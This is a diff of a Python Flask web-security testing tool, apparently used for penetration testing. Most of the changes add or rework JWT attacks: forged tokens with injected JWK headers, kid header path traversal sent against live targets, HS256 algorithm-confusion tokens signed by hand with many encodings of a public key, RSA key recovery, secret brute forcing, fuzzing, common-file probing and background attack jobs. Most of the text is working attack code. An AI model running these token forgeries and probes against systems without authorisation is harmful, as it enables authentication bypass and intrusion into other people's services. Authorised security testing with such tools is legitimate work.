+            header, payload = self.decode_unverified(token)
 
-            # Get the public key in JWK format
-            public_key = private_key.public_key()
-            public_numbers = public_key.public_numbers()
+            # Take a pre-generated key pair, its public half is already in JWK format
+            if key_size is None:
+                key_size = 2048 if key_type == 'RSA' else 'P-256'
+            key = self.http_request_tool.key_pool.take(key_type, key_size)
 
             # Create JWK header
             new_header = {
-                "alg": "RS256",
-                "jwk": {
-                    "kty": "RSA",
-                    "n": base64.urlsafe_b64encode(public_numbers.n.to_bytes(256, byteorder='big')).decode('utf-8').rstrip('='),
-                    "e": base64.urlsafe_b64encode(public_numbers.e.to_bytes(3, byteorder='big')).decode('utf-8').rstrip('=')
-                }
+                "alg": key["algorithm"],
+                "jwk": dict(key["jwk"])
             }
 
             # Sign the token with the private key
             modified_token = jwt.encode(
                 payload,
-                private_key,
-                algorithm='RS256',
+                key["private_key"],
+                algorithm=key["algorithm"],
                 headers=new_header
             )
 
             return {
                 "success": True,
                 "modified_token": modified_token,
-                "details": "Created token with injected JWK header and signed with generated RSA key"
+                "details": f"Created token with injected JWK header and signed with generated {key_type} key"
             }
 
         except Exception as e:
             return {"error": f"Failed to perform JWK header injection attack: {str(e)}"}
 
-    def kid_header_traversal(self, token, request_text, use_proxy=False, proxy_address=None, verify=True):
+    def kid_header_traversal(self, token, request_text, use_proxy=False, proxy_address=None, verify=True, use_cache=False):
         try:
             # Decode the JWT without verification
-            header = jwt.get_unverified_header(token)
-            payload = jwt.decode(token, options={"verify_signature": False})
+            header, payload = self.decode_unverified(token)
+
+            # Parsed once, every path substitutes its token into it
+            template = self.parse_template(request_text)
+            baseline = self.get_rejection_baseline(token, template, use_proxy, proxy_address, verify)
 
             # Try different null device paths
             null_paths = [
@@ -775,13 +3997,12 @@ class JWTAttacks:
                 "Zero"
             ]
 
-            results = []
             success = False
             successful_path = None
             successful_token = None
             successful_response = None
 
-            for path in null_paths:
+            def attempt(path):
                 # Create a new header with the current path
                 new_header = header.copy()
                 new_header["kid"] = path
@@ -795,15 +4016,17 @@ class JWTAttacks:
                     headers=new_header
                 )
 
-                # Replace the original token in the request
-                modified_request = request_text.replace(token, modified_token)
+                # Replace the original token in the parsed request
+                modified_request = template.with_token(token, modified_token)
 
                 # Send the modified request
                 response = self.http_request_tool.process_request(
                     modified_request,
                     use_proxy=use_proxy,
                     proxy_address=proxy_address,
-                    verify=verify
+                    verify=verify,
+                    rate_limit=True,
+                    use_cache=use_cache
                 )
 
                 # Get the response status code
@@ -815,24 +4038,25 @@ class JWTAttacks:
                     except (IndexError, ValueError):
                         pass
 
-                # Add result for this path
-                result = {
+                # Result for this path
+                return {
                     "path": path,
                     "token": modified_token,
                     "header": new_header,
                     "status_code": status_code,
-                    "success": status_code in [200, 302],
-                    "response": response.get("response", "")
+                    "success": status_code in [200, 302] and not self.is_rejected(response, baseline),
+                    "response": response.get("response", ""),
+                    "fingerprint": self.get_fingerprint(response)
                 }
-                results.append(result)
 
-                # If we get a success response (200 or 302), keep this path
-                if status_code in [200, 302]:
-                    success = True
-                    successful_path = path
-                    successful_token = modified_token
-                    successful_response = response.get("response", "")
-                    break  # Stop after first successful attempt
+            # Paths are sent concurrently, results stop after the first success
+            results = self.run_variants(null_paths, attempt)
+            if results[-1]["success"]:
+                success = True
+                successful_path = results[-1]["path"]
+                successful_token = results[-1]["token"]
+                successful_response = results[-1]["response"]
+            self.cluster_responses(results)
 
             if success:
                 return {
@@ -853,11 +4077,62 @@ class JWTAttacks:
         except Exception as e:
             return {"error": f"Failed to perform KID header traversal attack: {str(e)}"}
 
+    def public_key_encodings(self, public_key):
+        # Every form a server might hold its verification key in, each one is a
+        # candidate HMAC secret when the server accepts HS256
+        spki_pem = public_key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
+        pkcs1_pem = public_key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.PKCS1)
+        return OrderedDict([
+            ("pem_base64", base64.b64encode(spki_pem)),
+            ("pem", spki_pem),
+            ("pem_no_newline", spki_pem.rstrip(b'\n')),
+            ("pkcs1_pem", pkcs1_pem),
+            ("pkcs1_pem_no_newline", pkcs1_pem.rstrip(b'\n')),
+            ("der", public_key.public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)),
+            ("pkcs1_der", public_key.public_bytes(serialization.Encoding.DER, serialization.PublicFormat.PKCS1))
+        ])
+
+    def sign_hs256(self, header, payload, secret):
+        # Signed by hand, PyJWT refuses HMAC secrets that look like public keys
+        encode = lambda data: base64.urlsafe_b64encode(
+            json.dumps(data, separators=(',', ':')).encode('utf-8')
+        ).decode('utf-8').rstrip('=')
+        signing_input = f"{encode(dict(header, alg='HS256'))}.{encode(payload)}"
+        signature = hmac.new(secret, signing_input.encode('ascii'), hashlib.sha256).digest()
+        return f"{signing_input}.{base64.urlsafe_b64encode(signature).decode('utf-8').rstrip('=')}"
+
+    def confusion_variants(self, header, payload, public_key):
+        return [
+            {"encoding": encoding, "token": self.sign_hs256(header, payload, secret)}
+            for encoding, secret in self.public_key_encodings(public_key).items()
+        ]
+
+    def recover_rsa_key(self, tokens, cancel_event=None):
+        # Generator for a background job: recovers the RSA public key from two or more
+        # signed tokens and signs HS256 confusion tokens with every encoding of it
+        for event in self.http_request_tool.rsa_key_recovery.iter_recover(tokens, cancel_event):
+            if event.get("success"):
+                public_key = event.pop("public_key")
+                event["pem"] = public_key.public_bytes(
+                    serialization.Encoding.PEM,
+                    serialization.PublicFormat.SubjectPublicKeyInfo
+                ).decode('utf-8')
+                # The first usable token is the template for the forged ones
+                for token in tokens:
+                    try:
+                        RSAKeyRecovery.parse_token(token.strip())
+                        header, payload = self.decode_unverified(token.strip())
+                        break
+                    except Exception:
+                        continue
+                event["variants"] = self.confusion_variants(header, payload, public_key)
+                event["details"] = f"Recovered {event['key_size']}-bit RSA public key (e={event['e']})"
+            yield event
+
     def algorithm_confusion(self, token):
         try:
             # Decode the JWT without verification
-            header = jwt.get_unverified_header(token)
-            payload = jwt.decode(token, options={"verify_signature": False})
+            header, payload = self.decode_unverified(token)
 
             # Get the public key from the token's header
             if 'jwk' not in header:
@@ -901,6 +4176,7 @@ class JWTAttacks:
             return {
                 "success": True,
                 "modified_token": modified_token,
+                "variants": self.confusion_variants(header, payload, public_key),
                 "details": "Created token using algorithm confusion attack (RSA public key as HMAC secret)"
             }
 
@@ -1015,6 +4291,9 @@ class Tools:
 class Third_Party_Analysis:
     def __init__(self, http_request_tool):
         self.http_request_tool = http_request_tool
+        self.wayback_host = 'web.archive.org'
+        # Floor between CDX API calls, the rate controller backs off further on 429s
+        self.wayback_min_interval = 1.0
     
     def search_wayback_machine(self, url):
         try:
@@ -1035,10 +4314,15 @@ class Third_Party_Analysis:
             max_results = 150000
             seen_urls = set()  # Track unique URLs
             
+            rate_controller = self.http_request_tool.rate_controller
+            
             # First get total number of pages
             num_pages_url = f"https://web.archive.org/cdx/search/cdx?url={domain}&matchType=domain&output=json&showNumPages=true"
             try:
-                num_pages_response = session.get(num_pages_url, timeout=60)
+                with rate_controller.throttle(self.wayback_host, self.wayback_min_interval) as feedback:
+                    num_pages_response = session.get(num_pages_url, timeout=60)
+                    feedback["status_code"] = num_pages_response.status_code
+                    feedback["retry_after"] = num_pages_response.headers.get('Retry-After')
                 if num_pages_response.status_code == 200:
                     total_pages = int(num_pages_response.text.strip())
                 else:
@@ -1055,11 +4339,15 @@ class Third_Party_Analysis:
                 wayback_url = f"https://web.archive.org/cdx/search/cdx?url={domain}&matchType=domain&output=json&fl=timestamp,original,mimetype,statuscode,digest,length&collapse=urlkey&page={page}&pageSize={page_size}"
                 
                 try:
-                    response = session.get(wayback_url, timeout=60)
+                    with rate_controller.throttle(self.wayback_host, self.wayback_min_interval) as feedback:
+                        response = session.get(wayback_url, timeout=60)
+                        feedback["status_code"] = response.status_code
+                        feedback["retry_after"] = response.headers.get('Retry-After')
                     
                     if response.status_code == 429:
-                        yield {"output": "Rate limited. Waiting 10 seconds before retrying...\n", "done": False}
-                        time.sleep(10)  # Increased wait time
+                        # The rate controller has already cut the rate and honours Retry-After
+                        delay = rate_controller.get_delay(self.wayback_host)
+                        yield {"output": f"Rate limited. Backing off {delay:.1f} seconds before retrying...\n", "done": False}
                         continue
                     
                     if response.status_code != 200:
@@ -1128,11 +4416,10 @@ class Third_Party_Analysis:
                             continue
                     
                     page += 1
-                    time.sleep(2)  # Increased delay between requests
                     
                 except requests.Timeout:
-                    yield {"output": "Request timed out. Waiting 10 seconds before retrying...\n", "done": False}
-                    time.sleep(10)
+                    delay = rate_controller.get_delay(self.wayback_host)
+                    yield {"output": f"Request timed out. Backing off {delay:.1f} seconds before retrying...\n", "done": False}
                     continue
                 except requests.RequestException as e:
                     yield {"error": f"Failed to connect to Wayback Machine: {str(e)}", "done": True}
@@ -1145,6 +4432,21 @@ class Third_Party_Analysis:
 
 # Initialize the HTTP request tool
 http_tool = HTTPRequestTool()
+job_manager = JobManager()
+
+def parse_brute_force_timeout(data):
+    # Seconds the pipeline's brute force stage may run, raises ValueError for
+    # anything that is not a finite non-negative number
+    value = data.get('brute_force_timeout', 30)
+    if isinstance(value, bool):
+        raise ValueError("brute_force_timeout must be a number")
+    try:
+        timeout = float(value)
+    except (TypeError, ValueError):
+        raise ValueError("brute_force_timeout must be a number")
+    if not math.isfinite(timeout) or timeout < 0:
+        raise ValueError("brute_force_timeout must be a non-negative number")
+    return timeout
 
 @app.route('/')
 def index():
@@ -1157,7 +4459,8 @@ def process_request():
         data.get('request_text', ''),
         data.get('use_proxy', False),
         data.get('proxy_address'),
-        data.get('verify', True)
+        data.get('verify', True),
+        use_cache=data.get('use_cache', False)
     ))
 
 @app.route('/generate_clickjack', methods=['POST'])
@@ -1170,131 +4473,101 @@ def check_common_files():
     try:
         data = request.get_json()
         request_text = data.get('request_text', '')
-        use_proxy = data.get('use_proxy', False)
-        proxy_address = data.get('proxy_address', '')
-        verify = data.get('verify', True)
 
         if not request_text:
             return jsonify({'error': 'No request text provided'}), 400
 
-        # Parse the request to get the base URL
-        lines = request_text.split('\n')
-        if not lines:
-            return jsonify({'error': 'Invalid request format'}), 400
+        events = http_tool.iter_common_files(
+            request_text,
+            data.get('use_proxy', False),
+            data.get('proxy_address', ''),
+            data.get('verify', True),
+            data.get('concurrency'),
+            data.get('body_cap'),
+            data.get('resume', True),
+            data.get('wordlist', 'common'),
+            data.get('use_cache', False)
+        )
 
-        first_line = lines[0].strip()
-        if not first_line:
-            return jsonify({'error': 'Invalid request format'}), 400
+        # Request parsing problems surface as the first event
+        first_event = next(events)
+        if 'error' in first_event:
+            return jsonify(first_event), 400
 
-        # Extract the URL from the first line
-        parts = first_line.split()
-        if len(parts) < 2:
-            return jsonify({'error': 'Invalid request format'}), 400
-
-        method, path = parts[0], parts[1]
-        if not path.startswith('http'):
-            # If it's a relative path, we need the Host header
-            host = None
-            for line in lines[1:]:
-                if line.lower().startswith('host:'):
-                    host = line.split(':', 1)[1].strip()
-                    break
-            if not host:
-                return jsonify({'error': 'No Host header found'}), 400
-            base_url = f"https://{host}"
-        else:
-            base_url = path.split('?')[0]  # Remove query parameters
+        def generate():
+            yield ScanProgress.encode(first_event)
+            for event in events:
+                yield ScanProgress.encode(event)
 
-        # Load common files to check
-        with open('common_files.txt', 'r') as f:
-            common_files = [line.strip() for line in f if line.strip()]
+        return Response(generate(), mimetype='text/event-stream')
 
-        total_files = len(common_files)
-        found_files = []
-        checked_files = []
+    except Exception as e:
+        return jsonify({'error': str(e)}), 500
 
-        def generate():
-            # Send initial progress
-            yield json.dumps({
-                'total_files': total_files,
-                'total_files_checked': 0,
-                'files_found': 0,
-                'checked_files': [],
-                'found_files': []
-            }) + '\n'
-
-            # Check each file
-            for file_path in common_files:
-                # Send current file being checked
-                yield json.dumps({
-                    'total_files': total_files,
-                    'total_files_checked': len(checked_files),
-                    'files_found': len(found_files),
-                    'checked_files': checked_files,
-                    'found_files': found_files
-                }) + '\n'
+@app.route('/check_common_files/batch', methods=['POST'])
+def check_common_files_batch():
+    try:
+        data = request.get_json()
+        targets = data.get('targets', [])
 
-                try:
-                    url = f"{base_url.rstrip('/')}/{file_path.lstrip('/')}"
-                    response = requests.head(
-                        url,
-                        proxies={'http': proxy_address, 'https': proxy_address} if use_proxy else None,
-                        verify=verify,
-                        timeout=5
-                    )
-                    
-                    success = response.status_code == 200
-                    if success:
-                        # If successful, get the full response to check content
-                        response = requests.get(
-                            url,
-                            proxies={'http': proxy_address, 'https': proxy_address} if use_proxy else None,
-                            verify=verify,
-                            timeout=5
-                        )
-                        found_files.append({
-                            "file_path": file_path,
-                            "url": url,
-                            "response_length": len(response.content)
-                        })
-                    
-                    checked_files.append({
-                        'file_path': file_path,
-                        'success': success,
-                        'status_code': response.status_code,
-                        'response_length': len(response.content) if success else None
-                    })
-
-                    # Send progress update
-                    yield json.dumps({
-                        'total_files': total_files,
-                        'total_files_checked': len(checked_files),
-                        'files_found': len(found_files),
-                        'checked_files': checked_files,
-                        'found_files': found_files
-                    }) + '\n'
+        if not isinstance(targets, list) or not targets:
+            return jsonify({'error': 'No targets provided'}), 400
 
-                except Exception as e:
-                    checked_files.append({
-                        'file_path': file_path,
-                        'success': False,
-                        'status_code': None,
-                        'error': str(e)
-                    })
-                    # Send progress update with error
-                    yield json.dumps({
-                        'total_files': total_files,
-                        'total_files_checked': len(checked_files),
-                        'files_found': len(found_files),
-                        'checked_files': checked_files,
-                        'found_files': found_files
-                    }) + '\n'
+        events = http_tool.iter_common_files_batch(
+            targets,
+            data.get('use_proxy', False),
+            data.get('proxy_address', ''),
+            data.get('verify', True),
+            data.get('concurrency'),
+            data.get('body_cap'),
+            data.get('resume', True),
+            data.get('wordlist', 'common'),
+            data.get('use_cache', False)
+        )
+
+        first_event = next(events)
+        if 'error' in first_event:
+            return jsonify(first_event), 400
+
+        def generate():
+            yield ScanProgress.encode(first_event)
+            for event in events:
+                yield ScanProgress.encode(event)
 
         return Response(generate(), mimetype='text/event-stream')
 
     except Exception as e:
         return jsonify({'error': str(e)}), 500
 
+@app.route('/fuzz', methods=['POST'])
+def fuzz():
+    try:
+        data = request.get_json()
+        events = http_tool.intruder.iter_fuzz(
+            data.get('request_text', ''),
+            data.get('payloads', []),
+            data.get('mode', 'sniper'),
+            data.get('use_proxy', False),
+            data.get('proxy_address'),
+            data.get('verify', True),
+            data.get('concurrency')
+        )
+
+        # Marker, mode and payload problems surface as the first event
+        first_event = next(events)
+        if 'error' in first_event:
+            return jsonify(first_event), 400
+
+        def generate():
+            yield ScanProgress.encode(first_event)
+            for event in events:
+                yield ScanProgress.encode(event)
+
+        return Response(generate(), mimetype='application/json')
+
+    except Exception as e:
+        return jsonify({'error': str(e)}), 500
+
 @app.route('/search_wayback', methods=['POST'])
 def search_wayback():
     data = request.get_json()
@@ -1315,6 +4588,27 @@ def decode_jwt():
     decoded = http_tool.jwt_attacks.decode_jwt(data.get('token', ''))
     return jsonify({"decoded": decoded})
 
+@app.route('/decode_jwt/batch', methods=['POST'])
+def decode_jwt_batch():
+    data = request.get_json()
+    tokens = data.get('tokens', [])
+    text = data.get('text') or ''
+    if not isinstance(tokens, list) or not all(isinstance(token, str) for token in tokens):
+        return jsonify({"error": "tokens must be a list of strings"}), 400
+    if not isinstance(text, str):
+        return jsonify({"error": "text must be a string"}), 400
+    # Checked before the text is searched, so an oversized paste is not scanned at all
+    if len(text) > 16 * 1024 * 1024:
+        return jsonify({"error": "Text too long, at most 16 MB per request"}), 400
+    # Raw text such as logs or Wayback output is searched for tokens
+    if text:
+        tokens = tokens + http_tool.jwt_attacks.find_jwt(text)
+    if not tokens:
+        return jsonify({"error": "No tokens provided"}), 400
+    if len(tokens) > 50000:
+        return jsonify({"error": "Too many tokens, at most 50000 per request"}), 400
+    return jsonify(http_tool.jwt_attacks.decode_jwt_batch(tokens))
+
 @app.route('/edit_jwt', methods=['POST'])
 def edit_jwt():
     data = request.get_json()
@@ -1325,6 +4619,29 @@ def edit_jwt():
     )
     return jsonify(result)
 
+@app.route('/jwt_attack/pipeline', methods=['POST'])
+def jwt_attack_pipeline():
+    try:
+        data = request.get_json()
+        try:
+            brute_force_timeout = parse_brute_force_timeout(data)
+        except ValueError as e:
+            return jsonify({"error": str(e)}), 400
+        events = http_tool.jwt_attacks.iter_attack_pipeline(
+            data.get('token', ''),
+            data.get('request_text', ''),
+            data.get('use_proxy', False),
+            data.get('proxy_address'),
+            data.get('verify', True),
+            data.get('use_cache', False),
+            data.get('wordlist', 'jwt'),
+            brute_force_timeout
+        )
+        return Response((ScanProgress.encode(event) for event in events), mimetype='text/event-stream')
+
+    except Exception as e:
+        return jsonify({'error': str(e)}), 500
+
 @app.route('/jwt_attack/<attack_type>', methods=['POST'])
 def jwt_attack(attack_type):
     data = request.get_json()
@@ -1333,21 +4650,22 @@ def jwt_attack(attack_type):
     use_proxy = data.get('use_proxy', False)
     proxy_address = data.get('proxy_address')
     verify = data.get('verify', True)
+    use_cache = data.get('use_cache', False)
 
     if attack_type == 'unverified_sig':
         result = http_tool.jwt_attacks.unverified_signature_attack(
-            token, request_text, use_proxy, proxy_address, verify
+            token, request_text, use_proxy, proxy_address, verify, use_cache
         )
     elif attack_type == 'none_sig':
         result = http_tool.jwt_attacks.none_signature_attack(
-            token, request_text, use_proxy, proxy_address, verify
+            token, request_text, use_proxy, proxy_address, verify, use_cache
         )
     elif attack_type == 'brute_force':
-        result = http_tool.jwt_attacks.brute_force_secret(token)
+        result = http_tool.jwt_attacks.brute_force_secret(token, data.get('wordlist', 'jwt'), data.get('engine', 'auto'))
     elif attack_type == 'jwk_injection':
-        result = http_tool.jwt_attacks.jwk_header_injection(token)
+        result = http_tool.jwt_attacks.jwk_header_injection(token, data.get('key_type', 'RSA'), data.get('key_size'))
     elif attack_type == 'kid_traversal':
-        result = http_tool.jwt_attacks.kid_header_traversal(token, request_text, use_proxy, proxy_address, verify)
+        result = http_tool.jwt_attacks.kid_header_traversal(token, request_text, use_proxy, proxy_address, verify, use_cache)
     elif attack_type == 'algorithm_confusion':
         result = http_tool.jwt_attacks.algorithm_confusion(token)
     else:
@@ -1355,10 +4673,192 @@ def jwt_attack(attack_type):
 
     return jsonify(result)
 
+@app.route('/wordlists', methods=['GET'])
+def wordlists():
+    return jsonify({"wordlists": http_tool.wordlists.describe()})
+
+@app.route('/connection_stats', methods=['GET'])
+def connection_stats():
+    return jsonify(http_tool.connection_pool.get_stats())
+
+@app.route('/timing_stats', methods=['GET'])
+def timing_stats():
+    return jsonify(http_tool.connection_pool.timings.get_stats())
+
+@app.route('/cache_stats', methods=['GET'])
+def cache_stats():
+    return jsonify(http_tool.response_cache.get_stats())
+
+@app.route('/response_body/<handle>', methods=['GET'])
+def response_body(handle):
+    body = http_tool.body_store.open(handle)
+    if body is None:
+        return jsonify({"error": "Unknown or expired body handle"}), 404
+    return Response(
+        body["chunks"],
+        mimetype='application/octet-stream',
+        headers={
+            "Content-Length": str(body["size"]),
+            "Content-Disposition": f"attachment; filename=response-{handle}.bin",
+            "X-Original-Content-Type": body["content_type"] or ""
+        }
+    )
+
+@app.route('/body_store_stats', methods=['GET'])
+def body_store_stats():
+    return jsonify(http_tool.body_store.get_stats())
+
+@app.route('/secret_store_stats', methods=['GET'])
+def secret_store_stats():
+    try:
+        return jsonify(http_tool.secret_store.get_stats())
+    except (sqlite3.Error, OSError) as e:
+        return jsonify({"error": str(e)}), 500
+
+@app.route('/key_pool_stats', methods=['GET'])
+def key_pool_stats():
+    return jsonify(http_tool.key_pool.get_stats())
+
+@app.route('/clear_cache', methods=['POST'])
+def clear_cache():
+    http_tool.response_cache.clear()
+    return jsonify(http_tool.response_cache.get_stats())
+
+@app.route('/rate_stats', methods=['GET'])
+def rate_stats():
+    return jsonify(http_tool.rate_controller.get_stats())
+
+@app.route('/jobs/<kind>', methods=['POST'])
+def start_job(kind):
+    data = request.get_json()
+
+    if kind == 'check_common_files':
+        func = lambda cancel_event: http_tool.iter_common_files(
+            data.get('request_text', ''),
+            data.get('use_proxy', False),
+            data.get('proxy_address', ''),
+            data.get('verify', True),
+            data.get('concurrency'),
+            data.get('body_cap'),
+            data.get('resume', True),
+            data.get('wordlist', 'common'),
+            data.get('use_cache', False)
+        )
+    elif kind == 'check_common_files_batch':
+        func = lambda cancel_event: http_tool.iter_common_files_batch(
+            data.get('targets', []),
+            data.get('use_proxy', False),
+            data.get('proxy_address', ''),
+            data.get('verify', True),
+            data.get('concurrency'),
+            data.get('body_cap'),
+            data.get('resume', True),
+            data.get('wordlist', 'common'),
+            data.get('use_cache', False)
+        )
+    elif kind == 'fuzz':
+        func = lambda cancel_event: http_tool.intruder.iter_fuzz(
+            data.get('request_text', ''),
+            data.get('payloads', []),
+            data.get('mode', 'sniper'),
+            data.get('use_proxy', False),
+            data.get('proxy_address'),
+            data.get('verify', True),
+            data.get('concurrency'),
+            cancel_event
+        )
+    elif kind == 'search_wayback':
+        func = lambda cancel_event: http_tool.third_party_analysis.search_wayback_machine(data.get('url', ''))
+    elif kind == 'brute_force':
+        func = lambda cancel_event: http_tool.jwt_attacks.iter_brute_force_secret(
+            data.get('token', ''),
+            data.get('wordlist', 'jwt'),
+            data.get('engine', 'auto')
+        )
+    elif kind == 'brute_force_batch':
+        tokens = data.get('tokens', [])
+        if not isinstance(tokens, list):
+            return jsonify({"error": "tokens must be a list"}), 400
+        func = lambda cancel_event: http_tool.jwt_attacks.iter_brute_force_batch(tokens, data.get('wordlist', 'jwt'))
+    elif kind == 'rsa_key_recovery':
+        tokens = data.get('tokens', [])
+        if not isinstance(tokens, list):
+            return jsonify({"error": "tokens must be a list"}), 400
+        func = lambda cancel_event: http_tool.jwt_attacks.recover_rsa_key(tokens, cancel_event)
+    elif kind == 'jwt_pipeline':
+        try:
+            brute_force_timeout = parse_brute_force_timeout(data)
+        except ValueError as e:
+            return jsonify({"error": str(e)}), 400
+        func = lambda cancel_event: http_tool.jwt_attacks.iter_attack_pipeline(
+            data.get('token', ''),
+            data.get('request_text', ''),
+            data.get('use_proxy', False),
+            data.get('proxy_address'),
+            data.get('verify', True),
+            data.get('use_cache', False),
+            data.get('wordlist', 'jwt'),
+            brute_force_timeout,
+            cancel_event
+        )
+    else:
+        return jsonify({"error": f"Unknown job type: {kind}"}), 404
+
+    result = job_manager.submit(kind, func, owner=request.remote_addr)
+    if 'error' in result:
+        return jsonify(result), 429
+    return jsonify(result)
+
+@app.route('/jobs', methods=['GET'])
+def list_jobs():
+    return jsonify({"jobs": job_manager.list_jobs(owner=request.remote_addr)})
+
+@app.route('/jobs/<job_id>', methods=['GET'])
+def job_status(job_id):
+    job = job_manager.get(job_id, owner=request.remote_addr)
+    if job is None:
+        return jsonify({"error": "Job not found"}), 404
+    return jsonify(job.to_dict())
+
+@app.route('/jobs/<job_id>/cancel', methods=['POST'])
+def cancel_job(job_id):
+    result = job_manager.cancel(job_id, owner=request.remote_addr)
+    if 'error' in result:
+        return jsonify(result), 404
+    return jsonify(result)
+
+@app.route('/jobs/<job_id>/stream', methods=['GET'])
+def stream_job(job_id):
+    job = job_manager.get(job_id, owner=request.remote_addr)
+    if job is None:
+        return jsonify({"error": "Job not found"}), 404
+
+    try:
+        offset = max(0, int(request.args.get('offset', 0)))
+    except ValueError:
+        offset = 0
+
+    def generate():
+        # Replays buffered output from offset and then follows the job live;
+        # every line carries its offset so a client can re-attach where it left off
+        position = offset
+        while True:
+            start, chunks, finished = job.read(position)
+            for i, chunk in enumerate(chunks):
+                yield json.dumps(dict(chunk, offset=start + i)) + '\n'
+            position = start + len(chunks)
+            if finished and not chunks:
+                break
+        yield json.dumps({"job": job.to_dict(), "offset": position}) + '\n'
+
+    return Response(generate(), mimetype='application/json')
+
 @app.route('/analyze_headers', methods=['POST'])
 def analyze_headers():
     data = request.get_json()
     return jsonify(http_tool.analyze_headers(data.get('request_text', '')))
 
 if __name__ == '__main__':
+    # Fill the key pool before the first JWK injection request
+    http_tool.key_pool.start()
     app.run()